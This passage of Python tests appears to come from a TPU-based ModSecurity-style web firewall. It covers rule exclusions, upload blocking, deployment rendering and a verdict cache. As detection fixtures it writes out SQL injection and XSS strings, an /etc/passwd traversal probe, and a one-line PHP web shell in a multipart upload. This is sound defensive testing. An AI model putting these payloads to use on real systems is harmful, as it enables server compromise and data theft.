    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset as _cc
    p = DetectionPipeline(_cc(load_bundled_rules()), mode="block")
    parsed = _mp_request([], files=[(b"up", b"shell.php", b"<?php ?>")])
    v = p.detect([parsed])[0]
    assert 922130 in v.rule_ids and v.blocked
    malformed = Request(
        method="POST", uri="/upload",
        headers={"Content-Type": "multipart/form-data; boundary=Xy12"},
        body=b"--Xy12\r\nContent-Disposition: form-data; name=f; "
             b"filename=shell.php\r\n\r\nx\r\n")   # no closing delimiter
    v2 = p.detect([malformed])[0]
    assert 922131 in v2.rule_ids and v2.blocked


def test_parser_disable_switches_off_json_args():
    """The wallarm-parser-disable json bit gates ARGS-from-JSON like it
    gates the unpack stage: with the parser off the collection is
    faithfully empty, so a count rule sees 0."""
    p = _pipeline('SecRule &ARGS_POST "@eq 0" '
                  '"id:920995,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    body = b'{"a": 1}'
    on = Request(method="POST", uri="/api",
                 headers={"Content-Type": "application/json"}, body=body)
    assert not p.detect([on])[0].attack
    off = Request(method="POST", uri="/api",
                  headers={"Content-Type": "application/json"},
                  body=body, parsers_off=frozenset({"json"}))
    assert p.detect([off])[0].attack
