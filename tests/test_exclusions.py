"""Rule exclusions — the FP-tuning surface of every real CRS deployment
(SURVEY.md §2.2 libmodsecurity row).

Config-time: SecRuleRemoveById/ByTag/ByMsg drop loaded rules;
SecRuleUpdateTargetById appends target exclusions the per-variable
confirm honors.  Runtime: ctl:ruleRemoveById / ctl:ruleRemoveTargetById /
ctl:ruleEngine=Off on a matched (usually pass,nolog) exclusion rule apply
per request — resolved to static masks at compile time, plain boolean
ops in finalize.
"""

import numpy as np
import pytest

from ingress_plus_tpu.compiler.ruleset import CompiledRuleset, compile_ruleset
from ingress_plus_tpu.compiler.seclang import load_seclang_dir, parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request

RULES = """
SecRule ARGS "@rx (?i)union\\s+select" \\
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule ARGS "@rx (?i)<script" \\
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule ARGS|REQUEST_URI "@rx /etc/passwd" \\
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""

SQLI = "/q?id=1 union select password"
XSS = "/q?x=<script>alert(1)</script>"


def _pipeline(text, **kw):
    return DetectionPipeline(compile_ruleset(parse_seclang(text)),
                             mode="block", **kw)


# ---------------------------------------------------------- config-time

def test_remove_by_id_single_and_range():
    p = _pipeline(RULES + 'SecRuleRemoveById 942100 "930000-930999"\n')
    assert 942100 not in p.ruleset.rule_ids
    assert 930120 not in p.ruleset.rule_ids
    assert 941100 in p.ruleset.rule_ids
    assert not p.detect([Request(uri=SQLI)])[0].attack
    assert p.detect([Request(uri=XSS)])[0].attack


def test_remove_by_id_only_affects_prior_rules():
    """ModSecurity order semantics: a removal sees only already-loaded
    rules — one defined after the directive survives."""
    text = ("SecRuleRemoveById 942100\n" + RULES)
    p = _pipeline(text)
    assert 942100 in p.ruleset.rule_ids
    assert p.detect([Request(uri=SQLI)])[0].attack


def test_remove_by_tag():
    p = _pipeline(RULES + "SecRuleRemoveByTag attack-sqli\n")
    assert 942100 not in p.ruleset.rule_ids
    assert 941100 in p.ruleset.rule_ids


def test_update_target_by_id_excludes_subfield():
    text = RULES + 'SecRuleUpdateTargetById 942100 "!ARGS:trusted"\n'
    p = _pipeline(text)
    # the excluded parameter no longer fires the rule...
    v = p.detect([Request(uri="/q?trusted=1 union select x")])[0]
    assert not v.attack
    # ...other parameters still do, and other rules are untouched
    assert p.detect([Request(uri="/q?id=1 union select x")])[0].attack
    assert p.detect([Request(uri=XSS)])[0].attack


def test_cross_file_exclusion_order(tmp_path):
    """load_seclang_dir shares one accumulator: an exclusion file sorting
    after the rule files (the CRS 999 convention) reaches their rules."""
    (tmp_path / "100-rules.conf").write_text(RULES)
    (tmp_path / "999-exclusions.conf").write_text(
        "SecRuleRemoveById 941100\n")
    rules = load_seclang_dir(tmp_path)
    assert 941100 not in [r.rule_id for r in rules]
    assert 942100 in [r.rule_id for r in rules]


# ------------------------------------------------------------- runtime

CTL_REMOVE = RULES + """
SecRule REQUEST_URI "@beginsWith /internal/" \\
    "id:10001,phase:1,pass,nolog,ctl:ruleRemoveById=942100"
"""


def test_ctl_remove_by_id_is_request_scoped():
    p = _pipeline(CTL_REMOVE)
    # the exclusion path: sqli in ARGS under /internal/ passes
    v = p.detect([Request(uri="/internal/q?id=1 union select x")])[0]
    assert not v.attack
    # the same payload anywhere else still blocks — request-scoped
    v = p.detect([Request(uri=SQLI)])[0]
    assert v.attack and v.blocked
    # other rules still apply under the excluded prefix
    v = p.detect([Request(uri="/internal/q?x=<script>x")])[0]
    assert v.attack


def test_ctl_rule_itself_never_scores():
    """The pass-action carrier rule is config machinery: it must not
    contribute score/classes even though it 'matches' every /internal/
    request."""
    p = _pipeline(CTL_REMOVE)
    v = p.detect([Request(uri="/internal/healthz")])[0]
    assert not v.attack and v.score == 0 and v.classes == []
    assert 10001 not in v.rule_ids


def test_ctl_remove_target_by_id():
    text = RULES + """
SecRule REQUEST_URI "@beginsWith /profile" \\
    "id:10002,phase:1,pass,nolog,ctl:ruleRemoveTargetById=942100;ARGS:bio"
"""
    p = _pipeline(text)
    # excluded subfield under the matching condition: passes
    v = p.detect([Request(uri="/profile?bio=1 union select x")])[0]
    assert not v.attack
    # same subfield elsewhere: blocks (condition not met)
    v = p.detect([Request(uri="/other?bio=1 union select x")])[0]
    assert v.attack
    # other subfields under the condition: block
    v = p.detect([Request(uri="/profile?id=1 union select x")])[0]
    assert v.attack


def test_ctl_engine_off():
    text = RULES + """
SecRule REQUEST_URI "@streq /healthz" \\
    "id:10003,phase:1,pass,nolog,ctl:ruleEngine=Off"
"""
    p = _pipeline(text)
    v = p.detect([Request(uri="/healthz")])[0]
    assert not v.attack and v.rule_ids == []
    assert p.detect([Request(uri=SQLI)])[0].attack


def test_ctl_specs_survive_checkpoint(tmp_path):
    cr = compile_ruleset(parse_seclang(CTL_REMOVE))
    assert cr.ctl_specs
    cr.save(tmp_path / "ck")
    cr2 = CompiledRuleset.load(tmp_path / "ck")
    assert cr2.ctl_specs == {
        int(k): v for k, v in cr.ctl_specs.items()}
    p = DetectionPipeline(cr2, mode="block")
    assert not p.detect(
        [Request(uri="/internal/q?id=1 union select x")])[0].attack
    assert p.detect([Request(uri=SQLI)])[0].attack


def test_ctl_detection_only():
    """ctl:ruleEngine=DetectionOnly → monitoring for that transaction:
    the attack is detected and reported but never blocked (ignoring it
    would over-block where ModSecurity log-onlys — review finding)."""
    text = RULES + """
SecRule REQUEST_URI "@beginsWith /staging/" \\
    "id:10005,phase:1,pass,nolog,ctl:ruleEngine=DetectionOnly"
"""
    p = _pipeline(text)
    v = p.detect([Request(uri="/staging/q?id=1 union select x")])[0]
    assert v.attack and not v.blocked and 942100 in v.rule_ids
    v = p.detect([Request(uri=SQLI)])[0]
    assert v.attack and v.blocked


def test_unresolved_ctl_carrier_still_inert():
    """A pass carrier whose ctl resolves to nothing (id not in the pack)
    must still never surface as a detection hit (review finding)."""
    text = RULES + """
SecRule REQUEST_URI "@beginsWith /api/" \\
    "id:10006,phase:1,pass,nolog,ctl:ruleRemoveById=999999"
"""
    p = _pipeline(text)
    v = p.detect([Request(uri="/api/ok")])[0]
    assert not v.attack and v.rule_ids == [] and v.score == 0


def test_ctl_remove_target_by_tag_and_remove_by_msg():
    text = RULES + """
SecRuleRemoveByMsg .*nothing-matches-this.*
SecRule REQUEST_URI "@beginsWith /forms/" \\
    "id:10007,phase:1,pass,nolog,ctl:ruleRemoveTargetByTag=attack-xss;ARGS:html"
"""
    p = _pipeline(text)
    assert len(p.ruleset.rule_ids) == 4      # ByMsg removed nothing
    assert not p.detect(
        [Request(uri="/forms/x?html=<script>y")])[0].attack
    assert p.detect(
        [Request(uri="/forms/x?other=<script>y")])[0].attack


def test_update_target_by_tag_and_msg():
    """CRS application-exclusion packages lean on the ByTag form; silently
    ignoring it kept rules firing on excluded params (review finding)."""
    text = RULES + 'SecRuleUpdateTargetByTag attack-sqli "!ARGS:content"\n'
    p = _pipeline(text)
    assert not p.detect(
        [Request(uri="/q?content=1 union select x")])[0].attack
    assert p.detect([Request(uri="/q?id=1 union select x")])[0].attack
    text2 = RULES.replace(
        'id:941100,', "id:941100,msg:'XSS filter',") + \
        'SecRuleUpdateTargetByMsg "XSS filter" "!ARGS:html"\n'
    p2 = _pipeline(text2)
    assert not p2.detect([Request(uri="/q?html=<script>y")])[0].attack
    assert p2.detect([Request(uri="/q?other=<script>y")])[0].attack


def test_args_exclusion_reaches_get_specific_collection():
    """'!ARGS:x' (the GET∪POST union) must also narrow a rule iterating
    ARGS_GET — config-time and runtime ctl exclusion paths must agree
    (review finding)."""
    text = """
SecRule ARGS_GET "@rx (?i)union\\s+select" \\
    "id:942900,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRuleUpdateTargetById 942900 "!ARGS:trusted"
"""
    p = _pipeline(text)
    assert not p.detect(
        [Request(uri="/q?trusted=1 union select x")])[0].attack
    assert p.detect([Request(uri="/q?id=1 union select x")])[0].attack


def test_args_exclusion_does_not_reach_files():
    """ModSecurity's ARGS exclusions never touch FILES: an '!ARGS:photo'
    exclusion must not suppress an upload rule matching the multipart
    file part of the same field name (review finding — FILES shared the
    bodyargs exclusion namespace; round-5: FILES now comes from the real
    multipart parser, serve/bodyparse.py)."""
    text = """
SecRule FILES "@rx \\.php$" \\
    "id:920460,phase:2,block,t:lowercase,severity:CRITICAL,tag:'attack-protocol'"
SecRuleUpdateTargetById 920460 "!ARGS:photo"
"""
    p = _pipeline(text)
    req = Request(
        method="POST", uri="/up",
        headers={"Content-Type": "multipart/form-data; boundary=Bnd"},
        body=b'--Bnd\r\n'
             b'Content-Disposition: form-data; name="photo"; '
             b'filename="shell.PHP"\r\n'
             b'Content-Type: application/octet-stream\r\n\r\n'
             b'<?php system($_GET[0]); ?>\r\n'
             b'--Bnd--\r\n')
    assert p.detect([req])[0].attack
    # urlencoded bodies have a faithfully EMPTY FILES collection: the
    # same rule must not fire on a mere form field mentioning .php
    form = Request(
        method="POST", uri="/up",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        body=b"photo=shell.php")
    assert not p.detect([form])[0].attack


def test_fingerprint_covers_exclusions():
    """Version must change when ONLY exclusion behavior changes, or the
    RulesetWatcher never hot-swaps the new pack (review finding)."""
    base = compile_ruleset(parse_seclang(RULES))
    ctl = compile_ruleset(parse_seclang(CTL_REMOVE))
    upd = compile_ruleset(parse_seclang(
        RULES + 'SecRuleUpdateTargetById 942100 "!ARGS:trusted"\n'))
    assert len({base.version, ctl.version, upd.version}) == 3
    ctl2 = compile_ruleset(parse_seclang(CTL_REMOVE.replace(
        "ruleRemoveById=942100", "ruleRemoveById=941100")))
    assert ctl2.version != ctl.version


def test_ctl_remove_by_tag_runtime():
    text = RULES + """
SecRule REQUEST_URI "@beginsWith /static/" \\
    "id:10004,phase:1,pass,nolog,ctl:ruleRemoveByTag=attack-(sqli|xss)"
"""
    p = _pipeline(text)
    assert not p.detect(
        [Request(uri="/static/a?id=1 union select x")])[0].attack
    assert not p.detect(
        [Request(uri="/static/a?x=<script>y")])[0].attack
    # lfi keeps its different tag → still fires under the prefix
    assert p.detect(
        [Request(uri="/static/a?f=/etc/passwd")])[0].attack
