"""Packaging renderer (Helm-chart analog), trace ring, and the
postanalytics consolidator CLI — golden-file style like the reference's
template_test.go† (SURVEY.md §4)."""

import json
from pathlib import Path

from ingress_plus_tpu.control.deploy import (
    DeployValues,
    render_all,
    write_static,
)

REPO = Path(__file__).resolve().parent.parent


def test_render_contains_architecture():
    v = DeployValues(chips_per_host=2, balance="ewma", deadline_ms=30)
    out = render_all(v)
    dep = out["deployment.yaml"]
    # one serve loop per chip, each with its own socket + chip binding
    assert dep.count("name: serve-") == 2
    assert "/run/ipt/serve-0.sock" in dep and "/run/ipt/serve-1.sock" in dep
    assert "google.com/tpu: 1" in dep
    # sidecar balances across both and owns the fail-open deadline
    assert "- /run/ipt/serve-0.sock,/run/ipt/serve-1.sock" in dep
    assert "- ewma" in dep
    assert '- "30"' in dep
    # liveness probes wired to the serve loops' /healthz
    assert dep.count("path: /healthz") == 2
    # postanalytics consolidator shares the pod's spool emptyDir (a
    # separate Deployment's emptyDir would always be empty)
    assert "ingress_plus_tpu.post.export" in dep
    assert dep.count("name: ipt-spool, mountPath") >= 3
    cm = out["configmap.yaml"]
    assert 'detection-backend: "tpu"' in cm
    assert 'fail-open: "true"' in cm
    assert "attacks" not in out["service.yaml"]  # no hot-path port leaks


def test_render_fleet_topology():
    """Fleet tier (ISSUE 19): front + N serve replicas + aggregator +
    retune daemon in one pod, readiness probes on every layer."""
    v = DeployValues(fleet_nodes=4, front_http_port=9931,
                     fleet_http_port=9912)
    fleet = render_all(v)["fleet.yaml"]
    # N replicas, each on its own UDS + HTTP plane with its own probes
    assert fleet.count("name: serve-") == 4
    for i in range(4):
        assert "/run/ipt/fleet-%d.sock" % i in fleet
    assert fleet.count("path: /readyz") == 4 + 1  # replicas + front
    assert fleet.count("path: /healthz") == 4
    # the front knows every backend by socket AND HTTP plane
    assert "- --front" in fleet
    assert fleet.count("- --backend") == 4
    assert "n0=/run/ipt/fleet-0.sock@127.0.0.1:9941" in fleet
    # aggregator scrapes all replicas; daemon closes the loop on the
    # aggregator's /fleet/* surfaces and shares the fleet LKG volume
    assert "ingress_plus_tpu.control.fleetobs" in fleet
    assert "ingress_plus_tpu.control.retuned" in fleet
    assert fleet.count("- --node") == 8  # aggregator + daemon
    assert "path: /fleet/healthz" in fleet
    assert "- 127.0.0.1:9912" in fleet  # daemon -> aggregator, pod-local
    assert fleet.count("name: ipt-fleet-lkg") >= 6  # volume + mounts
    # front + aggregator are the only ports the Service exposes; the
    # replicas' HTTP planes stay pod-local (scraped by the aggregator)
    assert "port: 9931" in fleet and "port: 9912" in fleet
    # fleet tier is opt-out: 0 nodes renders no fleet manifest at all
    assert "fleet.yaml" not in render_all(DeployValues(fleet_nodes=0))


def test_static_manifests_in_sync(tmp_path):
    """deploy/static must equal a fresh default render (the reference
    regenerates deploy/static from the chart the same way)."""
    fresh = tmp_path / "static"
    write_static(fresh)
    committed = REPO / "deploy" / "static"
    fresh_names = sorted(p.name for p in fresh.iterdir())
    assert sorted(p.name for p in committed.iterdir()) == fresh_names, \
        "deploy/static file set is stale"
    for f in fresh.iterdir():
        assert (committed / f.name).read_text() == f.read_text(), \
            "deploy/static/%s is stale — run python -m " \
            "ingress_plus_tpu.control.deploy" % f.name


def test_values_yaml_drives_render():
    """The one-values-file packaging contract (VERDICT round-2 item 8):
    deploy/values.yaml parses into DeployValues, every key is honored,
    and a typo'd key fails loudly."""
    import pytest

    text = (REPO / "deploy" / "values.yaml").read_text()
    v = DeployValues.from_yaml(text)
    assert v.namespace == "ingress-plus-tpu" and v.chips_per_host == 4
    # committed values == defaults, so the committed static render is
    # exactly what the values file produces
    assert render_all(v) == render_all(DeployValues())

    custom = DeployValues.from_yaml(
        "replicas: 5\nbalance: chash\nfail-open: false\n"
        "deadline-ms: 75\ntenants:\n  1: [attack-sqli, attack-xss]\n")
    assert custom.replicas == 5 and custom.balance == "chash"
    assert custom.fail_open is False and custom.deadline_ms == 75
    assert custom.tenants == {1: ["attack-sqli", "attack-xss"]}
    dep = render_all(custom)["deployment.yaml"]
    assert "replicas: 5" in dep and "chash" in dep

    with pytest.raises(ValueError, match="unknown key"):
        DeployValues.from_yaml("replcias: 5\n")


def test_trace_ring_bounds_and_slowest():
    from ingress_plus_tpu.utils.trace import BatchTrace, TraceRing

    ring = TraceRing(capacity=8)
    for i in range(20):
        ring.record(BatchTrace(
            ts=float(i), n_requests=1, n_stream_items=0, queue_delay_us=5,
            batch_us=1000 + i, engine_us=800, confirm_us=50,
            request_ids=["r%d" % i]))
    snap = ring.snapshot()
    assert len(snap) == 8                      # bounded
    assert snap[-1]["request_ids"] == ["r19"]  # newest kept
    slow = ring.slowest(3)
    assert [t["batch_us"] for t in slow] == [1019, 1018, 1017]


def test_batcher_records_traces():
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.batcher import Batcher
    from ingress_plus_tpu.serve.normalize import Request

    rules = """
SecRule ARGS "@rx (?i)union\\s+select" "id:942100,phase:2,block,severity:CRITICAL,tag:'attack-sqli'"
"""
    b = Batcher(DetectionPipeline(compile_ruleset(parse_seclang(rules))),
                max_delay_s=0.001)
    try:
        fut = b.submit(Request(uri="/?q=1%20union%20select%20x",
                               request_id="t-1"))
        assert fut.result(timeout=60).attack
        traces = b.traces.snapshot()
        assert traces and traces[-1]["n_requests"] == 1
        assert traces[-1]["request_ids"] == ["t-1"]
        assert traces[-1]["batch_us"] > 0
    finally:
        b.close()


def test_consolidator_cli(tmp_path):
    from ingress_plus_tpu.post.export import consolidate_once

    spool = tmp_path / "spool"
    spool.mkdir()
    records = [{"first_ts": 1.0, "classes": ["sqli"], "count": 3},
               {"first_ts": 2.0, "classes": ["xss"], "count": 1}]
    with (spool / "attacks.jsonl").open("w") as f:
        for r in records:
            f.write(json.dumps(r) + "\n")
    assert consolidate_once(spool) == 2
    assert not (spool / "attacks.jsonl").exists()          # claimed
    merged = (spool / "consolidated" / "attacks.jsonl").read_text()
    assert len(merged.splitlines()) == 2
    # idempotent on empty spool
    assert consolidate_once(spool) == 0
    # unreachable collector keeps the claim for retry (at-least-once)
    with (spool / "attacks.jsonl").open("w") as f:
        f.write(json.dumps(records[0]) + "\n")
    assert consolidate_once(spool, url="http://127.0.0.1:1/x") == 0
    assert list(spool.glob("attacks.*.sending"))
    assert consolidate_once(spool) == 1                    # retried, kept


def test_consolidator_salvages_torn_lines_and_multi_writer(tmp_path):
    """A torn line from a concurrent partial append must not discard the
    batch's valid records; per-pid spool files all get claimed."""
    from ingress_plus_tpu.post.export import consolidate_once

    spool = tmp_path / "spool"
    spool.mkdir()
    good = {"first_ts": 1.0, "classes": ["sqli"], "count": 2}
    with (spool / "attacks.101.jsonl").open("w") as f:
        f.write(json.dumps(good) + "\n")
        f.write('{"first_ts": 2.0, "classes": ["x')   # torn mid-append
    with (spool / "attacks.202.jsonl").open("w") as f:
        f.write(json.dumps(good) + "\n")
    assert consolidate_once(spool) == 2                    # both good lines
    assert not list(spool.glob("attacks*.jsonl"))          # all claimed
    assert not list(spool.glob("*.sending"))               # all consumed
    merged = (spool / "consolidated" / "attacks.jsonl").read_text()
    assert len(merged.splitlines()) == 2


def test_consolidator_requeues_bytes_appended_after_read(tmp_path,
                                                         monkeypatch):
    """Round-2 advisor: the claim-rename can land mid-append; a record
    the writer completes AFTER the consolidator's read must be requeued
    as a fresh .sending, not die with the unlink (at-least-once)."""
    import ingress_plus_tpu.post.export as export_mod
    from ingress_plus_tpu.post.export import consolidate_once

    spool = tmp_path / "spool"
    spool.mkdir()
    first = {"first_ts": 1.0, "classes": ["sqli"], "count": 2}
    late = {"first_ts": 9.0, "classes": ["xss"], "count": 1}
    live = spool / "attacks.303.jsonl"
    live.write_text(json.dumps(first) + "\n")

    # simulate the racing writer: its buffered line lands right after
    # the consolidator's read_bytes (hook the first stat via monkeypatch
    # of Path.stat is fragile; appending before consolidate and hooking
    # read is simplest: append after the read by patching read_bytes)
    real_read_bytes = export_mod.Path.read_bytes

    def read_then_append(self):
        data = real_read_bytes(self)
        if self.name.endswith(".sending") and "tail" not in self.name:
            with self.open("a") as fh:      # the writer's late flush
                fh.write(json.dumps(late) + "\n")
        return data

    monkeypatch.setattr(export_mod.Path, "read_bytes", read_then_append)
    assert consolidate_once(spool) == 1           # first record delivered
    monkeypatch.setattr(export_mod.Path, "read_bytes", real_read_bytes)

    # the late record was requeued, not lost
    tails = list(spool.glob("attacks.*_tail.sending"))
    assert len(tails) == 1
    assert consolidate_once(spool) == 1           # …and delivers next cycle
    merged = (spool / "consolidated" / "attacks.jsonl").read_text()
    got = [json.loads(l) for l in merged.splitlines()]
    assert first in got and late in got
