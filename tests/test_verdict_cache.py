"""Cross-cycle verdict cache (models/confirm_plane.py VerdictCache,
ISSUE 15, docs/RETUNE.md "Verdict cache").

The cache promotes PR 9's per-cycle ConfirmMemo to a bounded
cross-cycle store keyed (generation, rule, streams-digest).  Soundness
is the memo's second-occurrence argument with the generation folded
into the key, so the tests here are differential: cache-on must be
byte-identical to cache-off in every verdict field, across detect
cycles and across every generation boundary the serve plane has —
hot swap, staged promote, rollback, tenant quarantine — plus the
eviction/bound/invalidation mechanics as units.
"""

import random
import time

import pytest

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.control.rollout import (
    _DRILL_CANDIDATE,
    _DRILL_INCUMBENT,
    LIVE,
    REJECTED,
    ROLLED_BACK,
    RolloutConfig,
    RolloutController,
)
from ingress_plus_tpu.models.confirm_plane import VerdictCache
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.normalize import Request
from ingress_plus_tpu.utils.faults import _collect, _mk_batcher, _requests


@pytest.fixture(scope="module")
def packs():
    return {"inc": compile_ruleset(parse_seclang(_DRILL_INCUMBENT)),
            "cand": compile_ruleset(parse_seclang(_DRILL_CANDIDATE))}


def _vt(v):
    return (v.attack, v.blocked, v.score, tuple(sorted(v.rule_ids)),
            v.fail_open, v.degraded)


def _mixed(n, tag, seed=11):
    reqs = []
    for i in range(n):
        uri = ("/q?a=1+union+select+%d" % (i % 3) if i % 3 == 0
               else "/p?x=<script>%d" % i if i % 7 == 0
               else "/ok?i=%d" % i)
        reqs.append(Request(uri=uri, request_id="%s-%d" % (tag, i)))
    random.Random(seed).shuffle(reqs)
    return reqs


# ------------------------------------------------------------ units

def test_cache_eviction_oldest_first_and_bound():
    c = VerdictCache(cap=8)
    for i in range(50):
        c.put(("g", i, b"d%d" % i), (False, ()))
    assert len(c) == 8
    assert c.evicted == 42
    # oldest gone, newest retained
    assert c.get(("g", 0, b"d0")) is None
    assert c.get(("g", 49, b"d49")) is not None
    # the seen-gate honors the same cap
    for i in range(50):
        c.see(("g", b"s%d" % i))
    assert len(c._seen) <= 8


def test_cache_invalidate_rebinds_and_counts():
    c = VerdictCache(cap=16)
    c.put(("g", 1, b"x"), (True, (1,)))
    hits0 = c.hits
    assert c.get(("g", 1, b"x")) is not None
    c.invalidate("test")
    assert len(c) == 0 and len(c._seen) == 0
    assert c.invalidations == 1
    assert c.get(("g", 1, b"x")) is None
    # counters survive invalidation (telemetry is cumulative)
    assert c.hits == hits0 + 1


def test_cache_generation_keying():
    """Same rule + digest under different generations never collide —
    the entire soundness-across-swap story in one assert."""
    c = VerdictCache(cap=16)
    va = c.view("gen-a")
    vb = c.view("gen-b")
    va.put((3, b"digest"), (True, (942100,)))
    assert va.get((3, b"digest")) == (True, (942100,))
    assert vb.get((3, b"digest")) is None
    assert vb.see(b"digest") is False    # seen-gate is per-generation too
    assert va.see(b"digest") is False and va.see(b"digest") is True


def test_cycle_view_delta_counters():
    """finalize_join folds per-batch deltas off the view; the shared
    cache keeps cumulative totals."""
    c = VerdictCache(cap=16)
    v1 = c.view("g")
    v1.put((1, b"d"), (False, ()))
    assert v1.get((1, b"d")) is not None
    assert (v1.hits, v1.misses) == (1, 1)
    v2 = c.view("g")
    assert v2.get((1, b"d")) is not None   # cross-view (cross-cycle) hit
    assert (v2.hits, v2.misses) == (1, 0)
    assert c.hits == 2 and c.misses == 1


# ---------------------------------------- pipeline-level differential

def test_cross_cycle_hits_and_parity(packs):
    """The cache's reason to exist: a flood recurring across detect
    CYCLES confirms once total; verdicts stay byte-identical to the
    cache-off pipeline, including matches."""
    flood = [Request(uri="/f?q=1+union+select+pw", request_id="f%d" % i)
             for i in range(16)]
    ref = DetectionPipeline(packs["inc"], mode="block")
    cached = DetectionPipeline(packs["inc"], mode="block",
                               confirm_cache_entries=256)
    for cycle in range(3):
        want = [_vt(v) for v in ref.detect(flood)]
        got = [_vt(v) for v in cached.detect(flood)]
        assert got == want, "cycle %d" % cycle
    assert any(w[0] for w in want)          # the flood really hits
    snap = cached.confirm_cache.snapshot()
    # cycles 2 and 3 are pure replays: cross-cycle hits happened
    assert snap["hits"] > 0
    assert snap["entries"] <= 256


def test_swap_invalidation_and_parity(packs):
    """pipeline.swap_ruleset is a generation boundary: the cache is
    invalidated (hygiene) and verdicts keep matching the cache-off
    twin under the NEW pack."""
    reqs = _mixed(24, "sw")
    ref = DetectionPipeline(packs["inc"], mode="block")
    cached = DetectionPipeline(packs["inc"], mode="block",
                               confirm_cache_entries=256)
    assert [_vt(v) for v in cached.detect(reqs)] == \
        [_vt(v) for v in ref.detect(reqs)]
    cached.swap_ruleset(packs["cand"])
    ref.swap_ruleset(packs["cand"])
    assert cached.confirm_cache.invalidations >= 1
    for cycle in range(2):
        assert [_vt(v) for v in cached.detect(reqs)] == \
            [_vt(v) for v in ref.detect(reqs)], "post-swap cycle %d" % cycle
    assert cached.confirm_cache.snapshot()["hits"] > 0


# ----------------------------------------- serve-plane differential

def _pair_batchers(packs, entries=512):
    """(cache-on, cache-off) batchers over the same incumbent pack."""
    bc = _mk_batcher(cr=packs["inc"])
    bc.pipeline.confirm_cache = VerdictCache(entries)
    b0 = _mk_batcher(cr=packs["inc"])
    return bc, b0


def _submit_both(bc, b0, reqs, timeout_s=30):
    fc = [bc.submit(r) for r in reqs]
    f0 = [b0.submit(r) for r in reqs]
    vc, viol_c = _collect(fc, timeout_s=timeout_s)
    v0, viol_0 = _collect(f0, timeout_s=timeout_s)
    assert not viol_c and not viol_0, (viol_c, viol_0)
    want = {v.request_id: _vt(v) for v in v0}
    for v in vc:
        assert _vt(v) == want[v.request_id], v.request_id
    return vc


def test_hot_swap_boundary_differential(packs):
    """Differential fuzz across Batcher.swap_ruleset: identical traffic
    into a cache-on and a cache-off batcher, a hot swap mid-stream,
    verdicts byte-identical throughout; the cache object survives the
    swap (carried to the new pipeline) and was invalidated."""
    bc, b0 = _pair_batchers(packs)
    cache = bc.pipeline.confirm_cache
    try:
        _submit_both(bc, b0, _mixed(24, "pre") + _mixed(24, "pre", 12))
        bc.swap_ruleset(packs["cand"])
        b0.swap_ruleset(packs["cand"])
        assert bc.pipeline.confirm_cache is cache   # carried
        assert cache.invalidations >= 1
        _submit_both(bc, b0, _mixed(24, "post"))
        _submit_both(bc, b0, _mixed(24, "post", 13))  # replay → hits
        assert cache.snapshot()["hits"] > 0
    finally:
        bc.close()
        b0.close()


def _fast_ro(b):
    ro = RolloutController(b, RolloutConfig(
        steps=(0.25, 1.0), step_min_requests=8, shadow_min_requests=4,
        shadow_sample=1.0, corpus_n=32, diff_min_compared=4))
    b.rollout = ro
    return ro


def test_staged_promote_boundary_differential(packs):
    """The promote boundary: drive a staged rollout to LIVE on both
    batchers with identical traffic — shadow, canary split, and the
    promotion swap all happen with the cache live — verdicts stay
    byte-identical to the cache-off twin, and the cache is carried
    across promote."""
    bc, b0 = _pair_batchers(packs)
    cache = bc.pipeline.confirm_cache
    roc, ro0 = _fast_ro(bc), _fast_ro(b0)
    try:
        roc.admit(ruleset=packs["cand"])
        ro0.admit(ruleset=packs["cand"])
        deadline = time.monotonic() + 60
        wave = 0
        while (roc.state not in (LIVE, REJECTED, ROLLED_BACK)
               or ro0.state not in (LIVE, REJECTED, ROLLED_BACK)) \
                and time.monotonic() < deadline:
            _submit_both(bc, b0,
                         _requests(24, attack_every=4, tag="pw%d" % wave))
            wave += 1
        assert roc.state == LIVE and ro0.state == LIVE
        assert bc.pipeline.confirm_cache is cache   # carried by promote
        assert cache.invalidations >= 1
        _submit_both(bc, b0, _requests(24, attack_every=4, tag="post"))
    finally:
        bc.close()
        b0.close()


def test_rollback_boundary_differential(packs):
    """The rollback boundary: an admitted candidate is rolled back
    mid-shadow on both batchers; the incumbent (and its cache) keeps
    serving byte-identical verdicts — rollback never touches the
    incumbent's entries (they are still the live generation)."""
    bc, b0 = _pair_batchers(packs)
    roc, ro0 = _fast_ro(bc), _fast_ro(b0)
    try:
        _submit_both(bc, b0, _mixed(24, "rb-pre"))
        roc.admit(ruleset=packs["cand"])
        ro0.admit(ruleset=packs["cand"])
        roc.rollback("drill")
        ro0.rollback("drill")
        assert roc.state == ROLLED_BACK and ro0.state == ROLLED_BACK
        _submit_both(bc, b0, _mixed(24, "rb-pre", 12))  # replay → hits
        assert bc.pipeline.confirm_cache.snapshot()["hits"] > 0
    finally:
        bc.close()
        b0.close()


def test_tenant_quarantine_boundary_differential(packs):
    """The quarantine boundary: a quarantined tenant's traffic rides
    the degraded lane while other tenants get full verdicts — the
    cache-on batcher must mirror the cache-off one for BOTH classes
    (degraded verdicts never enter the confirm walk, so the cache can
    neither serve nor poison them)."""
    bc, b0 = _pair_batchers(packs)
    try:
        now = time.monotonic()
        for b in (bc, b0):
            b.tenant_guard._quarantined[1] = now
        reqs = (_requests(16, attack_every=4, tag="t0-", tenant=0)
                + _requests(16, attack_every=4, tag="t1-", tenant=1))
        random.Random(3).shuffle(reqs)
        vs = _submit_both(bc, b0, reqs)
        by_tenant = {0: [], 1: []}
        for v in vs:
            by_tenant[0 if v.request_id.startswith("t0-") else 1].append(v)
        # the boundary really exercised both lanes
        assert any(v.degraded or v.fail_open for v in by_tenant[1])
